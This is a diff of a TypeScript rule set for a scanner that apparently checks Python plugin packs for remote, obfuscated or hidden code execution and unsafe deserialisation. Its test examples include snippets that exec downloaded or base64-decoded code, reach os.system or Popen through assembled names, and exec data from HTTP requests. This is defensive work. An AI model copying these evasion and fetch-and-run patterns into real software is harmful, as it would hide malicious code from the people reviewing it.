@@ -1,43 +1,35 @@
-import type { Call, PythonFacts, Source } from '../python-facts.ts'
-import type { Hit, PythonRule } from '../rule.ts'
+import { argumentOf, argumentsOf, type CodeFacts, isSet } from '../code-facts.ts'
+import type { Call } from '../flow/evaluate.ts'
+import { isModelHost } from '../flow/hosts.ts'
+import { isDangerousPython, runsCode, runsFile, unpickles } from '../flow/python-library.ts'
+import { fullTexts, has, isMade, type Value } from '../flow/values.ts'
+import type { CodeRule, Hit } from '../rule.ts'
 
-const runners = new Set(['eval', 'exec', 'compile'])
-const network: Source = {
-  name: 'network',
-  accepts: (name) =>
-    /^(requests|httpx|urllib3?|aiohttp|http\.client)\b.*\b(get|post|request|urlopen|read|content|text|json)(\(\)|$)/.test(
-      name,
-    ) ||
-    /(^|\.)(urlopen|urlretrieve)$/.test(name) ||
-    /^(requests|httpx)\.(get|post|request)$/.test(name),
-}
-const decoder: Source = {
-  name: 'decoder',
-  accepts: (name) =>
-    /^(base64\.\w*decode\w*|binascii\.(unhexlify|a2b_\w+)|zlib\.decompress|lzma\.decompress|bz2\.decompress|gzip\.decompress|marshal\.loads|codecs\.decode|bytes\.fromhex|bytearray\.fromhex)$/.test(
-      name,
-    ),
+/** The code that a call runs, where it runs any. */
+function codeOf(call: Call): Value | undefined {
+  if (!runsCode.test(call.name)) return undefined
+  const code = argumentOf(call, 0, 'source', 'stmt', 'object', 'code', 'cmd')
+  // A shell that waits for code, without any, is given it by its user.
+  return code ?? (call.name === 'timeit.timeit' ? argumentOf(call, 1, 'setup') : undefined)
 }
 
-const syntaxTree: Source = { name: 'syntax tree', accepts: (name) => name === 'ast.parse' }
-
-/** `re.compile` and `torch.compile` have other names; only the builtins run text. */
-function runsText(call: Call): boolean {
-  return runners.has(call.name)
+/** The file or module that a call runs. */
+function fileOf(call: Call): Value | undefined {
+  if (/^(__import__|importlib\.import_module)$/.test(call.name)) return argumentOf(call, 0, 'name')
+  if (/^sys\.path\.(append|insert|extend)$/.test(call.name)) return call.args.at(-1)
+  if (!runsFile.test(call.name)) return undefined
+  const isNamedFirst = /spec_from_file_location|Loader$|^imp\./.test(call.name)
+  return argumentOf(call, isNamedFirst ? 1 : 0, 'location', 'path', 'path_name', 'name')
 }
 
-function* runnerHits(
-  facts: PythonFacts,
-  accepts: (call: Call, code: Call['args'][number]) => string | undefined,
-): Generator<Hit> {
+function* callHits(facts: CodeFacts, find: (call: Call) => Omit<Hit, 'line'> | undefined): Generator<Hit> {
   for (const call of facts.calls) {
-    const code = call.args[0]
-    const message = runsText(call) && code ? accepts(call, code) : undefined
-    if (message) yield { line: call.line, message }
+    const hit = find(call)
+    if (hit) yield { line: call.line, ...hit }
   }
 }
 
-export const downloadedCode: PythonRule = {
+export const downloadedCode: CodeRule = {
   of: 'python',
   id: 'downloaded-code',
   severity: 'critical',
@@ -45,22 +37,33 @@ export const downloadedCode: PythonRule = {
   fix: 'Put the code into the pack, where it can be read and checked.',
   examples: {
     matching: [
-      'import requests\nexec(requests.get("https://example.org/x").text)',
-      'from urllib.request import urlopen as o\ndef f():\n    data = o("https://example.org").read()\n    code = data.decode()\n    exec(code)',
+      'import requests\nexec(requests.get("https://example.test/x").text)',
+      'from urllib.request import urlopen as o\ndef f():\n    data = o("https://example.test").read()\n    code = data.decode()\n    exec(code)',
       'import requests as r\nbody = r.get(u).content\n__import__("builtins").exec(body)',
+      'import requests\ndef fetch(u):\n    return requests.get(u).text\ndef go(code):\n    run = exec\n    run(code)\ngo(fetch("https://example.test"))',
+      'import requests\nclass A:\n    def load(self):\n        self.code = requests.get(u).text\n    def go(self):\n        eval(self.code)',
+      'import requests, runpy\nopen("/tmp/a.py", "w").write(requests.get(u).text)\nrunpy.run_path("/tmp/a.py")',
+      'import threading, requests\nthreading.Thread(target=exec, args=(requests.get(u).text,)).start()',
+      'import urllib.request, importlib.util\nurllib.request.urlretrieve(u, p)\nimportlib.util.spec_from_file_location("m", p)',
     ],
     harmless: [
-      'import requests\ndata = requests.get("https://example.org").json()\nprint(data)',
+      'import requests\ndata = requests.get("https://example.test").json()\nprint(data)',
       'import requests\ndef a():\n    text = requests.get(u).text\ndef b(text):\n    return eval("1 + 1")',
+      'import requests, json\nv = json.loads(requests.get(u).text)\nn = eval("2 * 3")',
+      'import requests, re\np = re.compile(requests.get(u).text)',
     ],
   },
   find: (facts) =>
-    runnerHits(facts, (call, code) =>
-      facts.comesFrom(code, network) ? `\`${call.name}\` runs what comes from the network.` : undefined,
-    ),
+    callHits(facts, (call) => {
+      if (has(codeOf(call), 'network', 'hub', 'download'))
+        return { message: `\`${call.name}\` runs what comes from the network.` }
+      if (has(fileOf(call), 'network', 'hub', 'download'))
+        return { message: `\`${call.name}\` loads code that was downloaded.` }
+      return undefined
+    }),
 }
 
-export const hiddenCode: PythonRule = {
+export const hiddenCode: CodeRule = {
   of: 'python',
   id: 'hidden-code',
   severity: 'critical',
@@ -71,29 +74,57 @@ export const hiddenCode: PythonRule = {
       'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))',
       'import zlib, base64 as b\nx = zlib.decompress(b.b85decode(blob))\neval(x)',
       'e = exec\ne(bytes.fromhex("7072696e74"))',
-      `exec("${'\\\\x70'.repeat(200)}")`,
       'import marshal\nexec(marshal.loads(data))',
       'getattr(__builtins__, "exec")(__import__("base64").b64decode(blob))',
+      'exec("".join(chr(c ^ 7) for c in [119, 117, 110, 105, 115, 47, 54, 46, 13]))',
+      'exec(")1(tnirp"[::-1])',
+      '_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))\nexec((_)(b"=oQDK"))',
+      'from PIL import Image\nexec(bytes(Image.open("logo.png").getdata()))',
+      'exec(open("model.bin").read())',
     ],
     harmless: [
       'import base64\nimage = base64.b64decode(text)',
       'import base64\ndef a(x):\n    y = base64.b64decode(x)\n    return y\ndef b(y):\n    exec("pass")',
       'import re\nre.compile(base64.b64decode(x))',
+      'exec("a = 1")',
+      'exec(open("config.py").read())',
     ],
   },
   find: (facts) =>
-    runnerHits(facts, (call, code) => {
-      if (facts.comesFrom(code, decoder)) return `\`${call.name}\` runs something that is decoded first.`
-      const text = facts.constantOf(code)
-      const source = facts.textOf(code)
-      const escapes = source.match(/\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\[0-7]{3}/g)?.length ?? 0
-      return text !== undefined && escapes > 40
-        ? `\`${call.name}\` runs a text written in escapes.`
-        : undefined
+    callHits(facts, (call) => {
+      const code = codeOf(call)
+      if (has(code, 'decoded')) return { message: `\`${call.name}\` runs something that is decoded first.` }
+      if (has(code, 'data') && call.name !== 'eval')
+        return { message: `\`${call.name}\` runs what a data file holds.` }
+      if (has(fileOf(call), 'decoded'))
+        return { message: `\`${call.name}\` loads code that is decoded first.` }
+      return undefined
     }),
 }
 
-export const dynamicCode: PythonRule = {
+export const requestCode: CodeRule = {
+  of: 'python',
+  id: 'request-code',
+  severity: 'high',
+  why: 'Whoever reaches the tool’s server, such as a web page that its user opens, can run code.',
+  fix: 'Answer requests with fixed actions, and check what they ask for.',
+  examples: {
+    matching: [
+      '@PromptServer.instance.routes.post("/run")\nasync def run(request):\n    data = await request.json()\n    exec(data["code"])',
+    ],
+    harmless: [
+      '@PromptServer.instance.routes.post("/run")\nasync def run(request):\n    data = await request.json()\n    print(data["code"])',
+    ],
+  },
+  find: (facts) =>
+    callHits(facts, (call) =>
+      has(codeOf(call), 'request') && call.name !== 'compile'
+        ? { message: `\`${call.name}\` runs what a request holds.` }
+        : undefined,
+    ),
+}
+
+export const dynamicCode: CodeRule = {
   of: 'python',
   id: 'dynamic-code',
   severity: 'medium',
@@ -111,21 +142,22 @@ export const dynamicCode: PythonRule = {
       'import re\nre.compile(x)',
       'import torch\ntorch.compile(model)',
       'import ast\nast.literal_eval(x)',
+      'import ast\ndef f(t):\n    tree = ast.parse(t)\n    compile(tree, "x", "eval")',
     ],
   },
-  *find(facts) {
-    for (const call of facts.calls) {
-      const code = call.args[0]
-      if (!runsText(call) || !code || facts.isConstant(code)) continue
-      if (facts.comesFrom(code, network) || facts.comesFrom(code, decoder)) continue
+  find: (facts) =>
+    callHits(facts, (call) => {
+      const code = codeOf(call)
+      if (!code || !isMade(code)) return undefined
+      if (has(code, 'network', 'decoded', 'hub', 'download', 'request')) return undefined
+      if (has(code, 'data') && call.name !== 'eval') return undefined
       // Making an object of already parsed code is how formula nodes check their input.
-      if (call.name === 'compile' && facts.comesFrom(code, syntaxTree)) continue
-      yield { line: call.line, message: `\`${call.name}\` runs a text that is made while the pack runs.` }
-    }
-  },
+      if (call.name === 'compile' && code.names.includes('ast.parse()')) return undefined
+      return { message: `\`${call.name}\` runs a text that is made while the pack runs.` }
+    }),
 }
 
-export const marshalled: PythonRule = {
+export const marshalled: CodeRule = {
   of: 'python',
   id: 'marshalled-code',
   severity: 'high',
@@ -135,18 +167,69 @@ export const marshalled: PythonRule = {
     matching: [
       'import marshal\ncode = marshal.loads(data)',
       'from marshal import load as l\nl(open("x", "rb"))',
+      'import importlib\nm = importlib.import_module("mar" + "shal")\nm.loads(x)',
+      'from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b"PY000000")',
     ],
     harmless: ['import json\njson.loads(data)', 'from marshmallow import Schema'],
   },
   *find(facts) {
     for (const { name, line } of facts.calls) {
-      if (name === 'marshal.loads' || name === 'marshal.load')
-        yield { line, message: 'Loads compiled code with `marshal`.' }
+      if (/^marshal\.loads?$/.test(name)) yield { line, message: 'Loads compiled code with `marshal`.' }
+      if (/__pyarmor__$|^pyarmor_runtime/.test(name)) yield { line, message: 'Runs encrypted code.' }
     }
   },
 }
 
-export const pickled: PythonRule = {
+export const hiddenCall: CodeRule = {
+  of: 'python',
+  id: 'hidden-call',
+  severity: 'high',
+  why: 'A function that is reached by a name put together from pieces is meant not to be found by reading.',
+  fix: 'Call the function by its name.',
+  examples: {
+    matching: [
+      'import os\ngetattr(os, "sys" + "tem")("ls")',
+      '__builtins__["ex" + "ec"]("x = 1")',
+      'import importlib\nimportlib.import_module("sub" + "process").run(["ls"])',
+      'import os\nvars(os)["metsys"[::-1]]("ls")',
+      'class X:\n    __class_getitem__ = exec\nX["print(1)"]',
+      '[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]("ls")',
+      '(lambda: 0).__globals__["__builtins__"]["eval"]("1")',
+    ],
+    harmless: [
+      'import torch\ndtype = getattr(torch, "float" + bits)',
+      'import os\nstart = getattr(os, "startfile", None)',
+      'import importlib\nimportlib.import_module("." + name, package=__name__)',
+      'class Base: pass\nfor sub in Base.__subclasses__(): print(sub)',
+    ],
+  },
+  *find(facts) {
+    for (const { name, line, isHidden } of facts.lookups) {
+      if (isHidden && (isDangerousPython(name) || hiddenModules.test(name)))
+        yield { line, message: `Reaches \`${name}\` by a name that is put together.` }
+    }
+    for (const { name, line, target } of facts.hooks)
+      yield { line, message: `Puts \`${target}\` where Python calls it by itself, as \`${name}\`.` }
+    for (const { name, line } of facts.calls) {
+      if (/(__base__|__mro__|__bases__)\S*\.__subclasses__$/.test(name))
+        yield { line, message: 'Walks through all classes of Python to reach one that it does not name.' }
+      if (/^sys\.setprofile$/.test(name))
+        yield { line, message: 'Watches every call of the program.', severity: 'medium' }
+    }
+    for (const { text, line } of facts.texts)
+      if (text === '__builtins__' && /__globals__\s*\[\s*["']__builtins__/.test(lineOf(facts, line)))
+        yield { line, message: 'Takes the builtins out of another function.' }
+  },
+}
+
+const hiddenModules =
+  /^(os|subprocess|builtins|base64|marshal|zlib|socket|ctypes|pty|requests|urllib(\.request)?|winreg|pickle)(\.\?)?$/
+
+function lineOf(facts: CodeFacts, line: number): string {
+  return facts.text.split('\n', line)[line - 1] ?? ''
+}
+
+export const pickled: CodeRule = {
   of: 'python',
   id: 'pickled-data',
   severity: 'low',
@@ -157,20 +240,147 @@ export const pickled: PythonRule = {
       'import pickle\npickle.load(f)',
       'import dill\ndill.loads(x)',
       'import pickle, requests\npickle.loads(requests.get(u).content)',
+      'import yaml\nyaml.load(f, Loader=yaml.UnsafeLoader)',
+      'import torch, urllib.request\nurllib.request.urlretrieve("https://example.test/m.pt", p)\ntorch.load(p)',
     ],
-    harmless: ['import pickle\npickle.dump(x, f)', 'import json\njson.load(f)'],
+    harmless: [
+      'import pickle\npickle.dump(x, f)',
+      'import json\njson.load(f)',
+      'import yaml\nyaml.safe_load(f)',
+      'import torch, urllib.request\nurllib.request.urlretrieve("https://example.test/m.pt", p)\ntorch.load(p, weights_only=True)',
+      'import torch\ntorch.load(p)',
+    ],
+  },
+  find: (facts) =>
+    callHits(facts, (call) => {
+      const from = argumentOf(call, 0, 'f', 'file', 'stream')
+      if (/^torch\.load$|^(numpy|np)\.load$/.test(call.name)) return modelHit(call, from)
+      const isYaml = /^yaml\.(load|load_all|full_load)$/.test(call.name) && !isSafeYaml(call)
+      if (!unpickles.test(call.name) && !isYaml) return undefined
+      const what = isYaml || call.name.startsWith('yaml') ? 'objects from YAML' : 'a pickle'
+      return has(from, 'network', 'download')
+        ? { message: `Loads ${what} that comes from the network.`, severity: 'high' }
+        : has(from, 'decoded')
+          ? { message: `Loads ${what} that is decoded first.`, severity: 'high' }
+          : { message: `Loads ${what} with \`${call.name}\`.` }
+    }),
+}
+
+function isSafeYaml(call: Call): boolean {
+  const loader = argumentOf(call, 1, 'Loader')
+  return (
+    loader === undefined ||
+    !loader.names.some((name) => /Unsafe|^yaml\.(Loader|FullLoader|CLoader)$/.test(name))
+  )
+}
+
+/** Weights from somebody’s own server are not like those of a hub, which says who put them there. */
+function modelHit(call: Call, from: Value | undefined): Omit<Hit, 'line'> | undefined {
+  const isSafe = call.name === 'torch.load' ? isSet(call, 'weights_only') : !isSet(call, 'allow_pickle')
+  if (isSafe || !has(from, 'network', 'download') || !has(from, 'stranger')) return undefined
+  return {
+    message: 'Loads weights, which can hold code, from a server that is no known hub of models.',
+    severity: 'high',
+  }
+}
+
+export const remoteModelCode: CodeRule = {
+  of: 'python',
+  id: 'remote-model-code',
+  severity: 'low',
+  why: 'The code of that repository runs here, and its owner can change it at any time.',
+  fix: 'Name a revision, or put the code into the pack.',
+  examples: {
+    matching: [
+      'import torch\ntorch.hub.load("acme/model", "big")',
+      'from transformers import AutoModel\nAutoModel.from_pretrained("acme/model", trust_remote_code=True)',
+    ],
+    harmless: [
+      'import torch\ntorch.hub.load_state_dict_from_url("https://example.test/x")',
+      'AutoModel.from_pretrained("acme/model")',
+    ],
+  },
+  find: (facts) =>
+    callHits(facts, (call) => {
+      if (call.name === 'torch.hub.load' && argumentOf(call, 2, 'source')?.texts[0] !== 'local')
+        return { message: 'Runs the code of a repository that `torch.hub` fetches.', ...moreSerious(call) }
+      return isSet(call, 'trust_remote_code') &&
+        /from_pretrained$|^(transformers\.)?pipeline$/.test(call.name)
+        ? { message: 'May run code that comes with a model.', ...moreSerious(call) }
+        : undefined
+    }),
+}
+
+function moreSerious(call: Call): Pick<Hit, 'severity'> {
+  return argumentsOf(call).some((value) => has(value, 'network', 'decoded')) ? { severity: 'high' } : {}
+}
+
+export const escapedCode: CodeRule = {
+  of: 'python',
+  id: 'escaped-code',
+  severity: 'critical',
+  why: 'Text that is written in escapes hides what it says from everyone who reads it.',
+  fix: 'Write the code as it is.',
+  examples: {
+    matching: [`exec("${'\\\\x70'.repeat(60)}")`.replaceAll('\\\\', '\\'), `eval("${'\\u0070'.repeat(60)}")`],
+    harmless: ['exec("x = 1")', `names = "${'\\x70'.repeat(60)}"`],
   },
   *find(facts) {
-    for (const { name, line, args } of facts.calls) {
-      if (!/^(c?[pP]ickle|_pickle|dill|cloudpickle|joblib|shelve)\.(load|loads|open|Unpickler)$/.test(name))
-        continue
-      const isFromNetwork = args[0] !== undefined && facts.comesFrom(args[0], network)
-      const message = isFromNetwork
-        ? 'Loads a pickle that comes from the network.'
-        : `Loads a pickle with \`${name}\`.`
-      yield { line, message, ...(isFromNetwork ? { severity: 'high' as const } : {}) }
+    for (const call of facts.calls) {
+      const code = codeOf(call)
+      if (!code || fullTexts(code).length === 0) continue
+      const written = facts.text
+        .split('\n')
+        .slice(call.line - 1, call.line + 2)
+        .join('\n')
+      const escapes = written.match(/\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\N\{|\\[0-7]{3}/g)?.length ?? 0
+      if (escapes > 40) yield { line: call.line, message: `\`${call.name}\` runs a text written in escapes.` }
     }
   },
 }
 
-export const codeRules = [downloadedCode, hiddenCode, dynamicCode, marshalled, pickled]
+export const downloadsCode: CodeRule = {
+  of: 'python',
+  id: 'code-download',
+  severity: 'medium',
+  why: 'Code that comes later was not there when the version was checked.',
+  fix: 'Put the code into the pack, or depend on a released package.',
+  examples: {
+    matching: [
+      'import urllib.request\nurllib.request.urlretrieve("https://example.test/tool.exe", p)',
+      'import git\ngit.Repo.clone_from("https://example.test/x", p)',
+    ],
+    harmless: [
+      'import urllib.request\nurllib.request.urlretrieve("https://example.test/model.safetensors", p)',
+    ],
+  },
+  find: (facts) =>
+    callHits(facts, (call) => {
+      if (/clone_from$/.test(call.name)) return { message: 'Fetches a repository while it runs.' }
+      if (
+        !/(^|\.)(urlretrieve|download_url_to_file|urlopen)$|^requests\.get$|^wget\.download$/.test(call.name)
+      )
+        return undefined
+      const address = argumentOf(call, 0, 'url')?.texts.find((text) =>
+        /\.(py|pyd|exe|dll|so|bat|ps1|sh|msi|scr|vbs|jar|whl)([?#]|$)/i.test(text),
+      )
+      return address === undefined
+        ? undefined
+        : {
+            message: `Downloads ${isModelHost(address) ? 'a program' : 'a program from a server of its own'}.`,
+          }
+    }),
+}
+
+export const codeRules = [
+  downloadedCode,
+  hiddenCode,
+  requestCode,
+  dynamicCode,
+  marshalled,
+  hiddenCall,
+  pickled,
+  remoteModelCode,
+  escapedCode,
+  downloadsCode,
+]
